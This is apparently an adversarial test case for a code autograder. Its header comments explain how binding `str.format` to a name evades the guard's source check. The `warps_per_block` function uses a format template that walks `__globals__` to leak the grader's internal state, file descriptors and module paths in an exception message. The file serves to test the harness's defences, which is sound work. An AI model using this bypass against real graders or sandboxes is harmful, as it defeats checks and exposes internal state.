# adversarial: (red team of goal 6, round 2) binds a literal's str.format whose field walks
# __globals__ to the guard's module and calls it later: text of the harness's state.
# adversarial-exercise: occupancy
# adversarial-message: str.format with a template
# kernelgrade-expect: correctness=error
# ATTACK b2 (occupancy, a function exercise): str.format walks attributes and indexes from a
# template the source check never judges. reach._refused_use only looks at a Call whose func
# is `<expr>.format`; binding the bound method first (`fmt = "...".format`, then `fmt(x)`)
# leaves a plain Name call, and `"...".format` alone is an Attribute named "format", not in
# REFUSED_NAMES. Reads (as text) the grader's loaded modules through numpy's function globals
# (np.isscalar.__globals__["sys"].modules[...]): the channel module, the harness, the guard's
# state. Information only (strings), but exactly what format_refusal was added to stop.
import numpy as np


def warps_per_block(threads_per_block, warp_size=32):
    fmt = "{0.__globals__[sys].modules[autograder.child.guard]._namespaces} " \
          "CHANNEL_FD={0.__globals__[sys].modules[autograder.child.channel]._channel_fd} " \
          "MAIN={0.__globals__[sys].modules[__main__].__file__} " \
          "IMPORT={0.__globals__[__builtins__][__import__]} " \
          "ARGV={0.__globals__[sys].argv} " \
          "MODS={0.__globals__[sys].modules[autograder].__path__}".format
    raise ValueError(fmt(np.isscalar)[-700:])


def resident_blocks_per_sm(threads_per_block, shared_bytes_per_block, max_threads_per_sm,
                           max_blocks_per_sm, shared_bytes_per_sm, warp_size=32):
    return 0


def resident_threads_per_sm(threads_per_block, shared_bytes_per_block, max_threads_per_sm,
                            max_blocks_per_sm, shared_bytes_per_sm, warp_size=32):
    return 0


def tile_shared_bytes(tile_width, bytes_per_element=4):
    return 0


def global_traffic_reduction(tile_width):
    return 0
